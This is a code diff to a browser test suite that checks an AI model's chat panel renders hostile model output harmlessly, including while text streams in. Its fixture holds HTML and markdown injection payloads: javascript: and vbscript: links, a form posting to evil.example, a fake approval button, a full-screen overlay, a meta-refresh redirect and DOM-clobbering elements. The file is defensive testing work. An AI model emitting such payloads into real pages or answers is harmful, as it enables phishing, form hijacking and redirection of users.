@@ -6,6 +6,7 @@ from itertools import pairwise
 
 import pytest
 
+from ai_assistant.render.markdown import split_blocks
 from tests.browser.panel import Panel
 from tests.browser.visitor import Visitor
 from tests.model_server import ModelServerProcess
@@ -31,6 +32,8 @@ and [me too](vbscript:x) and <javascript:window.hurt=1> and [a][b]
 <form action="https://evil.example/take"><input name="aia-input" autofocus></form>
 <div id="aia-form" class="aia-approval" onclick="window.hurt=1">Approve</div>
 <a href="https://evil.example/" style="position:fixed;inset:0">everywhere</a>
+<a id="aia-input" name="AIAssistant">one</a> <img name="htmx" id="aia-strings" src=x>
+<form id="aia"><output name="dataset"></output></form><template id="aia-t-chip"></template>
 <base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">
 <link rel=stylesheet href="https://evil.example/x.css">
 
@@ -56,6 +59,31 @@ ODD = """() => {
     }
   return odd;
 }"""
+# All that a page ever shows while text grows, and each beginning of a text at once.
+WATCH_ODD = f"""() => {{
+  window.odd = [];
+  const look = {ODD};
+  new MutationObserver(() => window.odd.push(...look())).observe(
+    document.getElementById("aia"), {{ subtree: true, childList: true }});
+}}"""
+SHOW_EACH = f"""pieces => {{
+  const look = {ODD};
+  const own = [...document.querySelectorAll("#aia [id]")].map((node) => node.id);
+  const body = document.createElement("div");
+  body.className = "aia-body";
+  document.getElementById("aia-log").append(body);
+  const found = [];
+  for (const piece of pieces) {{
+    const template = document.createElement("template");
+    template.innerHTML = piece;
+    body.replaceChildren(template.content);
+    found.push(...look());
+    const taken = [...body.querySelectorAll("[id], [name]")];
+    found.push(...taken.map((node) => node.outerHTML));
+  }}
+  body.remove();
+  return [found, own.filter((id) => !document.getElementById(id)), location.href];
+}}"""
 
 
 class TestHostileText:
@@ -66,6 +94,36 @@ class TestHostileText:
         assert panel.page.locator("#aia-form").count() == 1
         assert visitor.watch.troubles() == []
 
+    @pytest.mark.scenario(18)
+    def test_is_inert_at_every_cut_point(self, panel: Panel) -> None:
+        cuts = (HOSTILE[:at] for at in range(len(HOSTILE) + 1))
+        pieces = dict.fromkeys(
+            "".join(block.html for block in split_blocks(cut)) for cut in cuts
+        )
+        assert len(pieces) > 500
+
+        found, lost, href = panel.page.evaluate(SHOW_EACH, [*pieces])
+        assert (found, lost) == ([], [])
+        assert href == panel.page.url
+        assert panel.page.evaluate("[window.hurt, typeof AIAssistant.open]") == [
+            None,
+            "function",
+        ]
+
+    @pytest.mark.scenario(18)
+    def test_is_inert_while_it_grows(
+        self, visit: Visit, server: DemoServer, model: ModelServerProcess
+    ) -> None:
+        model.script("hostile-slow", [text(HOSTILE, rate=150, size=4)])
+        visitor = visit(server)
+        panel = visitor.panel()
+        panel.page.evaluate(WATCH_ODD)
+        panel.ask_and_wait("[[script:hostile-slow]]", seconds=60)
+
+        assert panel.page.evaluate("window.odd") == []
+        self.assert_inert(panel, visitor)
+
+    @pytest.mark.scenario(18)
     @pytest.mark.row("X10")
     def test_in_an_answer_is_inert(
         self, visit: Visit, server: DemoServer, model: ModelServerProcess
@@ -82,6 +140,7 @@ class TestHostileText:
             href = link.get_attribute("href") or ""
             assert href.startswith(("https://", "/", "#"))
 
+    @pytest.mark.scenario(18)
     def test_in_calls_and_reasoning_is_inert(
         self, visit: Visit, server: DemoServer, model: ModelServerProcess
     ) -> None:
@@ -115,6 +174,7 @@ class TestHostileText:
         panel.list_conversations()
         self.assert_inert(panel, visitor)
 
+    @pytest.mark.scenario(17)
     def test_never_shows_broken_markdown(
         self, visit: Visit, server: DemoServer, model: ModelServerProcess
     ) -> None:
@@ -133,6 +193,15 @@ class TestHostileText:
         assert len(set(seen)) > 5
         assert not [said for said in seen if "**" in said or "](" in said]
         assert all(len(before) <= len(after) for before, after in pairwise(seen))
+
+    @pytest.mark.scenario(17)
+    def test_grown_text_is_what_a_reload_draws(self, panel: Panel) -> None:
+        grown = panel.ask_and_wait("[[script:report]]", seconds=60)
+        panel.page.reload()
+
+        assert [part.html for part in panel.answer().parts] == [
+            part.html for part in grown.parts
+        ]
 
 
 class TestClosedPanel:
